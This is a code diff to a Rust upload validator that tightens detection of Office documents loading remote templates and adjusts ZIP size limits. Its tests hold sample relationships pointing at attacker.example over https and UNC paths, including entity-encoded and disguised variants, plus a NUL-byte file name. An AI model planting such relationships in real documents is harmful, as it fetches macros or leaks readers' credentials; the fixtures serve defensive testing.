@@ -142,11 +142,12 @@ const ACTIVE_INSIDE: &[&str] = &[
 ];
 
 /// The most a ZIP's entries may hold once inflated, together and each:
-/// past it the malware scan (ClamAV's `MaxScanSize` and `MaxFileSize`,
-/// 100 MB and 25 MB by default) stops reading and answers clean.
-pub const MAX_ZIP_INFLATED: u64 = 100 * 1024 * 1024;
+/// past it the malware scan (ClamAV 1.x's `MaxScanSize` and
+/// `MaxFileSize`, 400 MB and 100 MB by default) stops reading and answers
+/// clean.
+pub const MAX_ZIP_INFLATED: u64 = 400 * 1024 * 1024;
 /// See [`MAX_ZIP_INFLATED`].
-pub const MAX_ZIP_ENTRY_INFLATED: u64 = 25 * 1024 * 1024;
+pub const MAX_ZIP_ENTRY_INFLATED: u64 = 100 * 1024 * 1024;
 
 /// Characters a file name must not carry ([`mamori_core::text::hidden`]),
 /// so that a name shows what the file is.
@@ -247,6 +248,42 @@ fn scannable(bytes: &[u8]) -> Result<bool, Refusal> {
     Ok(true)
 }
 
+/// Does one relationship (its element's attribute text) load something
+/// from another machine when the file is opened? Only one whose
+/// `TargetMode` is `External` (any spelling an XML reader reads so: an
+/// entity, any case), whose `Type` is not a hyperlink's, and whose `Target`
+/// is not a file on this computer: a template a document was made from
+/// (`file:///C:/…`, a local path) is what any 様式 leaves, a remote one
+/// (`https://`, `\\server\share`, `file://server/`) brings macros or sends
+/// the reader's credentials.
+fn reaches_out(element: &str) -> bool {
+    let value = |name: &str| {
+        let lower = element.to_ascii_lowercase();
+        let at = lower.match_indices(name).find(|(i, _)| {
+            element[..*i].ends_with(|c: char| c.is_whitespace())
+                && lower[i + name.len()..].trim_start().starts_with('=')
+        })?;
+        let rest = element[at.0 + name.len()..].trim_start().strip_prefix('=')?.trim_start();
+        let quote = rest.chars().next().filter(|q| *q == '"' || *q == '\'')?;
+        Some(rest[1..].split(quote).next().unwrap_or("").to_owned())
+    };
+    let mode = value("targetmode").unwrap_or_default();
+    if !(mode.contains('&') || mode.eq_ignore_ascii_case("external")) {
+        return false;
+    }
+    let kind = value("type").unwrap_or_default();
+    if kind.ends_with("/relationships/hyperlink") && !kind.contains('&') {
+        return false;
+    }
+    let target = value("target").unwrap_or_default().to_ascii_lowercase().replace('\\', "/");
+    let local_drive = |t: &str| t.as_bytes().get(1) == Some(&b':') && t.as_bytes()[0].is_ascii_alphabetic();
+    let local = match target.strip_prefix("file:///") {
+        Some(path) => local_drive(path),
+        None => !target.contains(':') && !target.starts_with("//") || local_drive(&target),
+    };
+    !local || target.contains('&')
+}
+
 /// Most of an Office file's relationship parts that is read, together.
 const RELATIONSHIPS_LIMIT: u64 = 4 * 1024 * 1024;
 
@@ -276,12 +313,8 @@ fn office_active(bytes: &[u8]) -> Result<bool, Refusal> {
         let entry = zip.by_name(name).map_err(|_| Refusal::Type)?;
         entry.take(budget + 1).read_to_end(&mut text).map_err(|_| Refusal::Type)?;
         budget = budget.checked_sub(text.len() as u64).ok_or(Refusal::Type)?;
-        let text = String::from_utf8_lossy(&text).to_ascii_lowercase();
-        let external = |r: &&str| {
-            let r = r.replace(['\'', ' ', '\t', '\r', '\n'], "").replace('"', "");
-            r.contains("targetmode=external") && !r.contains("/relationships/hyperlink")
-        };
-        if text.split("<relationship").skip(1).any(|r| external(&r)) {
+        let text = String::from_utf8_lossy(&text).into_owned();
+        if text.split("<Relationship").skip(1).any(|r| reaches_out(r.split('>').next().unwrap_or(r))) {
             return Ok(true);
         }
     }
@@ -568,10 +601,22 @@ mod tests {
         let link = rels(
             r#"<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>"#,
         );
+        let local_template = rels(
+            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\yamada\Templates\様式第1号.dotx" TargetMode="External"/>"#,
+        );
+        let disguised = rels(
+            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/relationships/hyperlink/t.dotm" TargetMode="External"/>"#,
+        );
+        let entity = rels(
+            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="&#69;xternal"/>"#,
+        );
+        let unc = rels(
+            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\attacker.example\share\t.dotm" TargetMode="External"/>"#,
+        );
         let docx = |part: &str, content: &str| {
             zip_of(&[("[Content_Types].xml", CONTENT_TYPES), ("word/document.xml", ""), (part, content)])
         };
-        let big = "\0".repeat(26 * 1024 * 1024);
+        let big = "\0".repeat(101 * 1024 * 1024);
         let encrypted = {
             use std::io::Write;
             let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
@@ -588,6 +633,12 @@ mod tests {
             ("手順書.docx", docx("word/activeX/activeX1.xml", "<ax/>"), Err(Refusal::Active)),
             // a hyperlink out is what a document is for
             ("手順書.docx", docx("word/_rels/document.xml.rels", &link), Ok(Kind::Docx)),
+            // and so is the local template a 様式 was made from
+            ("様式.docx", docx("word/_rels/settings.xml.rels", &local_template), Ok(Kind::Docx)),
+            // the word "hyperlink" in the target, an entity in the mode: still out
+            ("手順書.docx", docx("word/_rels/settings.xml.rels", &disguised), Err(Refusal::Active)),
+            ("手順書.docx", docx("word/_rels/settings.xml.rels", &entity), Err(Refusal::Active)),
+            ("手順書.docx", docx("word/_rels/settings.xml.rels", &unc), Err(Refusal::Active)),
             ("資料.zip", zip_of(&[("請求書.xls", "\u{d0}\u{cf}")]), Err(Refusal::ZipContent)),
             ("資料.zip", zip_of(&[("report/index.html", "<script>")]), Err(Refusal::ZipContent)),
             ("資料.zip", zip_of(&[("setup.exe\0.pdf", "MZ")]), Err(Refusal::ZipContent)),
